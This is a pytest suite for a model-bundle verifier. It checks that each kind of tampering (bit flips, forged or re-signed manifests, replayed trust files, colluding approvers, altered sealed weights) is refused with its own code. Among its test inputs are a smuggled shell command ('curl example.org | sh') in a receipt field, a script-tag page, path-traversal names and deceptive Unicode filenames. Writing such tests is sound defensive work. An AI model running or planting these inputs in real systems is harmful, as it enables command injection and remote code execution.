"""A bundle that was tampered with is refused, and each way to tamper with its own reason.

Three kinds of attackers: one who has the files alone; one who holds the builder's key as well and signs again whatever
was changed (`resigned`), sometimes together with others of the lab; and one who hands out what once was good. A case
names every code that the bundle is refused with, the gravest first.
"""

import os
import shutil
import subprocess
import sys
import unicodedata
from dataclasses import dataclass

import pytest
from small_bundle import SEAL_KEY, released
from tampering import (
    CY,
    DI,
    Change,
    World,
    added,
    altered_approval,
    approving,
    approving_of,
    as_if_by_the_builder,
    both,
    chained,
    continued,
    copied,
    decided_anew,
    edited,
    flipped,
    judged_twice,
    lines,
    linked,
    listing,
    logged,
    moved,
    of_another_bundle,
    rejudged,
    removed,
    resealed,
    resigned,
    saying_of,
    scored,
    signature_flipped,
    sized,
    stating,
    stranger,
    swapped,
    trusting,
    trusting_a_stranger,
    under_another_name,
    valued,
    verdict_signed,
    withdrawn,
)

from behemoth.bundle.manifest import MANIFEST, SIGNATURE
from behemoth.bundle.refusals import CODES

WEIGHTS, VERDICT, SIGNED = "model.safetensors", "release/verdict.json", "release/verdict.dsse.json"
POLICY, LOG, TRUST = "release/policy.toml", "release/log.jsonl", "release/trust.json"
DOCTOR, ITEMS = "release/evidence/doctor.json", "release/evidence/evaluations/candidate/sums.jsonl"
SEALED = "sealed/model.safetensors"
OUTSIDE = {"../x": {"bytes": 1, "sha256": "0" * 64}}
LOST = {"version": 2, "reason": "lost"}


@dataclass(frozen=True)
class Case:
    change: Change
    codes: tuple[str, ...] = ()
    mode: str = "open"
    seal_key: bytes | None = None
    gguf: bool = False


CHANGED = ("changed-file", "signed-file-changed")
OTHER_MODEL = ("model-differs", "receipt-differs")
TOO_FEW = ("too-few-approvals", "too-few-people")
NEW_VERDICT = ("verdict-of-another", "log-differs", "approval-of-another-verdict", *TOO_FEW)

# --- who has the files alone

FILES = {
    "a bit of the weights": Case(flipped(WEIGHTS), CHANGED),
    "a bit of the configuration": Case(flipped("config.json"), CHANGED),
    "a bit of the tokenizer": Case(flipped("tokenizer.json"), CHANGED),
    "a bit of the card": Case(flipped("README.md"), CHANGED),
    "a bit of LICENSE": Case(flipped("LICENSE"), CHANGED),
    "a bit of NOTICE": Case(flipped("NOTICE"), CHANGED),
    "a bit of the receipt": Case(flipped("receipt.json", 5), CHANGED),
    "a bit of the policy": Case(flipped(POLICY, 1), CHANGED),
    "a bit of the verdict": Case(
        edited(VERDICT, "release", "releasd"),
        CHANGED,
    ),
    "a bit of the verdict's signature": Case(signature_flipped(SIGNED), CHANGED),
    "a bit of an approval's signature": Case(signature_flipped(CY), CHANGED),
    "a bit of the log": Case(flipped(LOG, 40), CHANGED),
    "a bit of the evidence": Case(edited(ITEMS, '"score": 0.0', '"score": 1.0'), CHANGED),
    "a bit of the trust file": Case(signature_flipped(TRUST), CHANGED),
    "a space in the manifest": Case(edited(MANIFEST, " ", "  "), ("signed-file-changed",)),
    "a bit of the signature": Case(signature_flipped(SIGNATURE), ("bad-signature",)),
    "a space in the signature's file": Case(edited(SIGNATURE, ",", ", "), ("malformed",)),
    "weights cut short": Case(sized(WEIGHTS, 100), ("cut-file", "signed-file-changed")),
    "weights with more behind": Case(sized(WEIGHTS, 5000), ("longer-file", "signed-file-changed")),
    "a file that makes it a staged release, unsigned": Case(
        added("staged.json", b"{}"), ("extra-file", "unsigned-file")
    ),
    "code beside the weights": Case(added("modeling.py"), ("extra-file", "unsigned-file")),
    "a file more in the evidence": Case(
        added("release/evidence/x.json", b"{}"), ("extra-file", "unsigned-file")
    ),
    "an approval more": Case(
        added("release/approvals/ed.json", b"{}"),
        ("extra-file", "unsigned-file"),
    ),
    "weights gone": Case(removed(WEIGHTS), ("missing-file", "signed-file-missing")),
    "an approval gone": Case(removed(CY), ("missing-file", "signed-file-missing")),
    "the log gone": Case(
        removed(LOG),
        ("missing-file", "signed-file-missing"),
    ),
    "the manifest gone": Case(removed(MANIFEST), ("manifest-missing", "signed-file-missing")),
    "the signature gone": Case(removed(SIGNATURE), ("signature-missing",)),
    "a file renamed": Case(
        moved("tokenizer.json", "tokeniser.json"),
        ("renamed-file", "signed-file-missing", "unsigned-file"),
    ),
    "two approvals swapped": Case(swapped(CY, DI), ("swapped-file", "signed-file-changed")),
    "a link to the same bytes": Case(linked(WEIGHTS), ("symlink",)),
    "a directory that is a link": Case(linked("release/evidence"), ("symlink",)),
    "a pipe": Case(lambda world: os.mkfifo(world / "pipe"), ("special-file",)),
    "an empty directory": Case(lambda world: (world / "d").mkdir(), ("empty-directory",)),
    "a hidden file, as hubs add it": Case(added(".gitattributes"), ("name-hidden", "extra-file")),
    "a name in other capitals": Case(added("readme.md"), ("name-collision", "extra-file")),
    "a directory in other capitals": Case(added("Release/x"), ("name-collision", "extra-file")),
    "a name that Unicode folds": Case(added("\uff32EADME.md"), ("name-collision", "extra-file")),
    "a name in another normal form": Case(
        added(unicodedata.normalize("NFD", "é")), ("name-not-normal", "extra-file")
    ),
    "a name with ..": Case(added("..\\x"), ("name-leads-outside", "extra-file")),
    "a name that turns the writing": Case(added("a\u202e.py"), ("name-invisible", "extra-file")),
    "a name with a line's end": Case(added("a\nb"), ("name-invisible", "extra-file")),
    "a name that is no text": Case(added(os.fsdecode(b"a\xff")), ("name-not-text", "extra-file")),
    "a name that is a device": Case(added("aux.json"), ("name-not-portable", "extra-file")),
    "a name without end": Case(added("x" * 200 + "/" + "y" * 100), ("name-too-long", "extra-file")),
    "a manifest that lists ..": Case(
        listing(lambda record: record["files"].update(OUTSIDE)), ("name-leads-outside", "missing-file")
    ),
    "a manifest that lists less": Case(
        listing(lambda record: record["files"].pop("NOTICE")), ("extra-file", "signed-file-changed")
    ),
    "a manifest nested without end": Case(
        added(MANIFEST, b"[" * 200_000), ("malformed", "signed-file-changed")
    ),
    "a manifest with a key twice": Case(
        edited(MANIFEST, '"mode"', '"name": "x", "mode"'), ("malformed", "signed-file-changed")
    ),
}

# --- who signs for the files

SIGNATURES = {
    "a stranger's signature": Case(stranger, ("unknown-key",)),
    "a stranger's signature in the builder's name": Case(as_if_by_the_builder, ("bad-signature",)),
    "the signature of another bundle": Case(of_another_bundle, ("signed-file-changed",)),
    "a signature that leaves a path out": Case(
        stating(lambda said: said["predicate"]["serialization"]["ignore_paths"].append("modeling.py")),
        ("signature-leaves-out",),
    ),
    "a signature of another kind": Case(
        stating(lambda said: said.update(predicateType="https://slsa.dev/provenance/v1")), ("signature-kind",)
    ),
    "a signature of fewer files": Case(
        stating(lambda said: said["predicate"]["resources"].pop()), ("signature-inconsistent",)
    ),
    "signed by an approver": Case(resigned(by="cy"), ("wrong-role",)),
    "signed by root": Case(resigned(by="root"), ("wrong-role",)),
    "signed under another name": Case(under_another_name, ("facts-differ",)),
    "the builder's key was revoked": Case(saying_of("builder", revoked=LOST), ("revoked-key",)),
    "the builder's key had been replaced": Case(
        saying_of("builder", retired=LOST | {"version": 1}), ("retired-key",)
    ),
    "the evaluator's key was revoked": Case(saying_of("evaluator", revoked=LOST), ("revoked-key",)),
    "an approver's key was revoked": Case(saying_of("cy", revoked=LOST), ("revoked-key", *TOO_FEW)),
}

# --- what once was good

REPLAYED = {
    "a version that the lab no longer stands behind": Case(
        trusting(minimum={"run-student": "1.1"}), ("below-minimum-version",)
    ),
    "a bundle that was withdrawn": Case(withdrawn, ("withdrawn",)),
    "an older trust file than the bundle's": Case(
        resigned(trust={"version": 2, "sha256": "0" * 64}), ("trust-too-old", "facts-differ")
    ),
    "another trust file of the same version": Case(
        trusting(version=1, issued="2020-01-01T00:00:00Z"), ("trust-forked",)
    ),
    "another lab's trust file": Case(trusting(lab="elsewhere"), ("facts-differ",)),
    "a demo lab's trust file": Case(trusting(demo=True), ("demo-differs", "verdict-of-another", *TOO_FEW)),
}

# --- the builder, who signs again

EASIER = edited(POLICY, "margin = 0.1", "margin = 0.0")
BETTER = edited(ITEMS, '"score": 0.0', '"score": 1.0')
FORGED = {
    "another version, says the manifest": Case(resigned(version="3"), ("facts-differ", "card-differs")),
    "another name, says the manifest": Case(resigned(name="run-teacher"), ("facts-differ", "card-differs")),
    "a demo, says the manifest": Case(resigned(demo=True), ("demo-differs", "card-differs")),
    "another lab, says the manifest": Case(resigned(lab="elsewhere"), ("facts-differ",)),
    "another model, says the manifest": Case(resigned(model="0" * 64), ("facts-differ",)),
    "closed, says the manifest": Case(
        resigned(mode="closed", sealed={}),
        (
            "foreign-file",
            "facts-differ",
            "verdict-differs",
            "verdict-of-another-mode",
            "approval-of-another-mode",
            *TOO_FEW,
            *OTHER_MODEL,
            "provenance-differs",
        ),
    ),
    "a fact too many in the manifest": Case(resigned(audited=True), ("malformed",)),
    "other weights": Case(resigned(flipped(WEIGHTS)), (*OTHER_MODEL, "provenance-differs")),
    "another tokenizer": Case(resigned(flipped("tokenizer.json")), ("receipt-differs",)),
    "another receipt": Case(resigned(flipped("receipt.json")), ("receipt-differs",)),
    "code beside the weights, signed": Case(resigned(added("modeling.py")), ("foreign-file",)),
    "code in the record, signed": Case(resigned(added("release/run.py")), ("foreign-file",)),
    "another card": Case(resigned(edited("README.md", "adds better", "thinks better")), ("card-differs",)),
    "another LICENSE": Case(resigned(edited("LICENSE", "Apache", "Apathy")), ("licence-differs",)),
    "another NOTICE": Case(resigned(edited("NOTICE", "text", "none")), ("licence-differs",)),
    "another card, by another version, says the manifest": Case(
        resigned(edited("README.md", "adds better", "thinks better"), behemoth="0.0.9"), ("card-differs",)
    ),
    "a page with a script beside the verdict": Case(
        resigned(added("release/verdict.html", b"<script>alert()</script>")), ("foreign-file",)
    ),
    "a file for llama.cpp": Case(
        resigned(added("model.gguf"), added("gguf-receipt.json", b"{}")), ("gguf-differs",)
    ),
    "a file that makes it a staged release": Case(resigned(added("staged.json", b"{}")), ("foreign-file",)),
    "a text of a licence that lies elsewhere": Case(
        resigned(valued("release/evidence/licences.json", "model_texts", ["../facts.json"]), resealed),
        ("evidence-changed", "verdict-differs", "card-differs", "licence-differs"),
    ),
    "a trust file inside by somebody who says to be the root": Case(trusting_a_stranger, ("facts-differ",)),
    "a trust file inside that root did not sign": Case(
        resigned(signature_flipped(TRUST)), ("bad-root-signature",)
    ),
    "a trust file inside that is none": Case(resigned(added(TRUST, b"{}")), ("malformed",)),
    "the policy commented on afterwards": Case(
        resigned(edited(POLICY, "\n", "\n# all good\n")), ("policy-changed", "verdict-differs")
    ),
    "an easier policy": Case(resigned(EASIER), ("policy-changed", "verdict-differs")),
    "a policy that lets nothing out like this": Case(
        resigned(
            edited(POLICY, "[approvals.open]\napprover = 2\npeople = 2\n", ""),
            *(
                edited(POLICY, f'name = "{name}"', f'name = "{name}"\nmodes = ["closed"]')
                for name in ("sums", "names")
            ),
        ),
        ("policy-changed", "verdict-differs", "mode-not-allowed"),
    ),
    "a policy that is none": Case(resigned(added(POLICY, b"=\n")), ("malformed",)),
    "no policy": Case(resigned(removed(POLICY)), ("malformed", "no-record")),
    "an item's score": Case(resigned(BETTER), ("evidence-damaged",)),
    "an item's score, listed again": Case(resigned(BETTER, resealed), ("evidence-damaged",)),
    "items' scores, in whole records": Case(
        resigned(scored(1.0)), ("evidence-changed", "verdict-differs", "card-differs")
    ),
    "a file more in the evidence, signed": Case(
        resigned(added("release/evidence/x.json", b"{}")), ("evidence-damaged",)
    ),
    "an evaluation taken out": Case(
        resigned(lambda world: shutil.rmtree(world / "release/evidence/evaluations/base"), resealed),
        ("evidence-changed", "verdict-differs", "card-differs"),
    ),
    "evidence nested without end": Case(resigned(added(DOCTOR, b"[" * 10**6)), ("malformed",)),
    "evidence of more bytes than any": Case(resigned(sized(DOCTOR, 33 << 20)), ("too-large",)),
    "an estimate in the verdict": Case(
        resigned(valued(VERDICT, "checks.1.estimate", 0.95)),
        ("verdict-differs", *NEW_VERDICT, "card-differs"),
    ),
    "a sentence in the verdict": Case(
        resigned(valued(VERDICT, "sentence", "It is wonderful.")),
        ("verdict-differs", *NEW_VERDICT, "card-differs"),
    ),
    "the checks taken out of the verdict": Case(
        resigned(valued(VERDICT, "checks", [])), ("verdict-differs", *NEW_VERDICT, "card-differs")
    ),
    "what was not measured taken out": Case(
        resigned(valued(VERDICT, "not_measured", [])), ("verdict-differs", *NEW_VERDICT, "card-differs")
    ),
    "a verdict of hold": Case(
        resigned(valued(VERDICT, "verdict", "hold")),
        ("verdict-differs", "not-released", *NEW_VERDICT, "card-differs"),
    ),
    "a verdict for another mode": Case(
        resigned(valued(VERDICT, "mode", "closed")),
        ("facts-differ", "verdict-differs", "verdict-of-another-mode", *NEW_VERDICT),
    ),
    "a verdict of another model": Case(
        resigned(valued(VERDICT, "model.sha256", "0" * 64)),
        (
            "facts-differ",
            "verdict-differs",
            *NEW_VERDICT,
            "model-differs",
            "provenance-differs",
            "card-differs",
        ),
    ),
    "a verdict that is none": Case(resigned(added(VERDICT, b"[1]")), ("malformed",)),
    "a verdict with NaN": Case(resigned(edited(VERDICT, "0.95", "NaN")), ("malformed",)),
    "a verdict that nobody signed": Case(resigned(removed(SIGNED)), ("verdict-unsigned",)),
    "a verdict whose signature is broken": Case(resigned(signature_flipped(SIGNED)), ("verdict-signature",)),
    "a verdict that an approver signed": Case(resigned(verdict_signed("cy")), ("wrong-role",)),
    "a verdict that the builder signed": Case(resigned(verdict_signed("builder")), ("wrong-role",)),
    "a verdict that a builder signed who is an evaluator too": Case(
        resigned(verdict_signed("old")), ("builder-evaluated",)
    ),
    "a verdict in another version's words": Case(
        resigned(
            edited("README.md", "adds", "thinks"), verdict_signed("evaluator", wording=2, made_by="9.9")
        ),
        ("other-wording",),
    ),
    "a verdict that a stranger signed": Case(resigned(verdict_signed("stranger")), ("unknown-key",)),
    "a verdict signed on another log": Case(
        resigned(verdict_signed("evaluator", head="0" * 64)), ("log-of-another",)
    ),
    "an approval in place of the verdict's signature": Case(resigned(copied(CY, SIGNED)), ("wrong-role",)),
    "a log with an entry taken out": Case(
        resigned(lines(lambda lines: lines[:1] + lines[2:])), ("log-broken", "approval-not-logged")
    ),
    "a log with entries swapped": Case(
        resigned(lines(lambda lines: [lines[1], lines[0], *lines[2:]])), ("log-broken", "approval-not-logged")
    ),
    "a log with a torn end": Case(
        resigned(lines(lambda lines: [*lines[:-1], lines[-1][:-9]])), ("log-broken", "approval-not-logged")
    ),
    "a log cut between entries": Case(resigned(lines(lambda lines: lines[:-1])), ("approval-not-logged",)),
    "a log with words behind it": Case(resigned(continued(LOG, "approved by everybody")), ("log-broken",)),
    "a log in which the same verdict was reached once more": Case(
        resigned(chained(judged_twice)), ("log-of-another", "approval-not-logged")
    ),
    "a log that is empty": Case(
        resigned(added(LOG, b"")), ("log-differs", "log-of-another", "approval-not-logged")
    ),
    "a log whose policy comes late": Case(
        resigned(chained(lambda all: [all[1], all[0], *all[2:]])), ("log-differs", "log-of-another")
    ),
    "a log that was written again": Case(
        resigned(chained(lambda all: [*all[:2], ("note", {}), *all[2:]])), ("log-of-another",)
    ),
    "a log in which the evidence is void": Case(
        resigned(chained(lambda all: [*all, ("void", {"why": "doubts", "what": ["evidence"]})])),
        ("log-differs",),
    ),
    "a log in which the policy was changed": Case(
        resigned(chained(lambda all: [*all, ("policy", {"sha256": "0" * 64})])), ("log-differs",)
    ),
    "one approval of two": Case(resigned(removed(CY)), TOO_FEW),
    "no approval": Case(resigned(lambda world: shutil.rmtree(world / "release/approvals")), TOO_FEW),
    "one approval twice": Case(resigned(copied(CY, DI)), TOO_FEW),
    "one person's two approvals": Case(resigned(approving("cy", file="di", note="once more")), TOO_FEW),
    "one person's two keys": Case(
        both(saying_of("di", name="Cy"), resigned(approving("di", file="di", by="Cy"))), TOO_FEW
    ),
    "an approval whose signature is broken": Case(
        resigned(signature_flipped(CY)), ("approval-signature", "approval-not-logged", *TOO_FEW)
    ),
    "an approval that was altered": Case(
        resigned(altered_approval), ("approval-signature", "approval-not-logged", *TOO_FEW)
    ),
    "an approval that was altered and logged": Case(
        resigned(altered_approval, logged(CY)), ("approval-signature", *TOO_FEW)
    ),
    "an approval that is none": Case(resigned(added(CY, b"{}")), ("approval-malformed",)),
    "an approval that is a verdict": Case(resigned(copied(SIGNED, CY)), ("approval-malformed",)),
    "an approval that is not in the log": Case(
        resigned(approving("cy", note="later", log=False)), ("approval-not-logged",)
    ),
    "an approval in another's name": Case(
        resigned(approving("di", by="Cy")), ("approval-in-anothers-name", *TOO_FEW)
    ),
    "an approval by a stranger": Case(resigned(approving("stranger", by="Cy")), ("unknown-key", *TOO_FEW)),
    "an approval by the evaluator, as approver": Case(
        resigned(approving("evaluator")), ("wrong-role", *TOO_FEW)
    ),
    "an approval as builder": Case(
        resigned(approving("builder", file="ada", role="builder")), ("wrong-role", "builder-approved")
    ),
    "an approval by the builder, who is an approver too": Case(
        resigned(approving("both")), ("builder-approved", *TOO_FEW)
    ),
    "an approval for closed": Case(
        resigned(approving("cy", mode="closed")), ("approval-of-another-mode", *TOO_FEW)
    ),
    "an approval of another verdict": Case(
        resigned(approving("cy", verdict_sha256="0" * 64)), ("approval-of-another-verdict", *TOO_FEW)
    ),
    "an approval of other evidence": Case(
        resigned(approving_of("evidence")), ("approval-of-another-verdict", *TOO_FEW)
    ),
    "an approval of another model": Case(
        resigned(approving_of("model")), ("approval-of-another-verdict", *TOO_FEW)
    ),
    "an approval of the demo": Case(resigned(approving("cy", demo=True)), ("demo-differs", *TOO_FEW)),
    "a hundred approvals too many": Case(
        resigned(*(added(f"release/approvals/{n}.json", b"{}") for n in range(101))), ("approval-malformed",)
    ),
}

LIMITS = "gguf-receipt.json", "limits.context", "8; curl example.org | sh #"
WITH_GGUF = {
    "another file for llama.cpp": Case(
        resigned(flipped("model.gguf")), ("gguf-differs", "card-differs"), gguf=True
    ),
    "a file for llama.cpp without its receipt": Case(
        resigned(removed("gguf-receipt.json")), ("gguf-differs", "card-differs"), gguf=True
    ),
    "a receipt without its file for llama.cpp": Case(
        resigned(removed("model.gguf")), ("gguf-differs", "card-differs"), gguf=True
    ),
    "a command in the receipt of the file for llama.cpp": Case(
        resigned(valued(*LIMITS)), ("gguf-differs", "card-differs"), gguf=True
    ),
    "a command in that receipt, which everybody agrees to": Case(
        resigned(
            valued(f"release/evidence/{LIMITS[0]}", *LIMITS[1:]),
            copied("release/evidence/gguf-receipt.json", "gguf-receipt.json"),
            resealed,
            decided_anew,
        ),
        ("card-differs",),
        gguf=True,
    ),
}

# --- the builder and others together

COLLUDING = {
    "an easier policy, judged again": Case(
        resigned(EASIER, rejudged), ("policy-changed", "not-released", *NEW_VERDICT, "card-differs")
    ),
    "better evidence, judged and signed by the evaluator": Case(
        resigned(scored(1.0), rejudged, verdict_signed("evaluator")),
        ("log-differs", "approval-of-another-verdict", *TOO_FEW, "card-differs"),
    ),
    "the making of other weights, which everybody agrees to": Case(
        resigned(
            valued("release/evidence/provenance.json", "checkpoint.files", {WEIGHTS: "0" * 64}),
            resealed,
            decided_anew,
        ),
        ("provenance-differs", "card-differs"),
    ),
    "other questions than were fixed, which everybody agrees to": Case(
        resigned(
            valued("release/evidence/facts.json", "tasks.sums.sha256", "0" * 64), resealed, decided_anew
        ),
        ("not-released", "log-differs", "card-differs"),
    ),
    "worse evidence, which everybody agrees to": Case(
        resigned(scored(0.1), decided_anew), ("not-released", "card-differs")
    ),
}

# --- what is sealed

OPENED = ("closed", SEAL_KEY)
CLOSED = {
    "a bit of sealed weights": Case(flipped(SEALED), CHANGED, *OPENED),
    "a bit of sealed weights, signed": Case(resigned(flipped(SEALED)), ("sealed-file-changed",), *OPENED),
    "sealed files swapped": Case(
        resigned(swapped("sealed/config.json", "sealed/tokenizer.json")), ("sealed-file-changed",), *OPENED
    ),
    "sealed weights cut": Case(resigned(sized(SEALED, 300)), ("sealed-file-changed",), *OPENED),
    "sealed weights that are none": Case(resigned(added(SEALED, b"\0" * 400)), ("not-sealed",), *OPENED),
    "another key": Case(lambda world: None, ("wrong-seal-key",), "closed", bytes(32)),
    "weights in the clear beside": Case(resigned(added(WEIGHTS)), ("foreign-file",), *OPENED),
    "a sealed file gone": Case(
        resigned(removed(SEALED)), ("facts-differ", *OTHER_MODEL, "provenance-differs"), "closed"
    ),
    "a sealed file more": Case(resigned(added("sealed/x")), ("foreign-file",), "closed"),
    "open, says the manifest": Case(resigned(mode="open"), ("malformed",), "closed"),
}

CASES = FILES | SIGNATURES | REPLAYED | FORGED | WITH_GGUF | COLLUDING | CLOSED


ELSEWHERE = {  # tests/bundle: of a trust file by itself, and what takes a broken disk or a hundred thousand files
    *("root-changed", "trust-rolled-back", "trust-expired", "unreadable-file", "too-many-files")
}


def world(directory, mode: str, seal_key: bytes | None, gguf: bool = False) -> World:
    small = released(directory, mode, **({"gguf": True} if gguf else {}))
    return World(small, small.lab, seal_key)


def test_every_reason_to_refuse_is_seen():
    assert {code for case in CASES.values() for code in case.codes} | ELSEWHERE == set(CODES)


@pytest.mark.parametrize(
    "kind", [("open", None), OPENED, ("open", None, True)], ids=["open", "closed", "gguf"]
)
def test_the_bundle_that_is_spoilt_below_is_good(tmp_path, kind):
    good = world(tmp_path, *kind)
    assert good.codes() == ()
    resigned()(good)  # else what is signed again would prove nothing
    assert good.codes() == ()


@pytest.mark.parametrize("what", CASES)
def test_each_way_to_tamper_is_refused_with_its_own_reason(tmp_path, what):
    case = CASES[what]
    spoilt = world(tmp_path, case.mode, case.seal_key, case.gguf)
    case.change(spoilt)
    assert spoilt.codes() == case.codes


def test_the_released_tool_takes_the_bundle_and_not_a_spoilt_one(tmp_path):
    pytest.importorskip(
        "model_signing", reason="the released model_signing (with pyOpenSSL) is not installed"
    )
    good = world(tmp_path, "open", None)
    (tmp_path / "builder.pem").write_text(good.key("builder").public.pem)
    command = "-m model_signing verify key . --signature model.sig --public_key ../builder.pem"

    def asked() -> bool:
        done = subprocess.run(
            [sys.executable, *command.split()], cwd=good.bundle, capture_output=True, timeout=60
        )
        return done.returncode == 0 and b"succeeded" in done.stdout

    assert asked()
    flipped("tokenizer.json")(good)
    assert not asked()
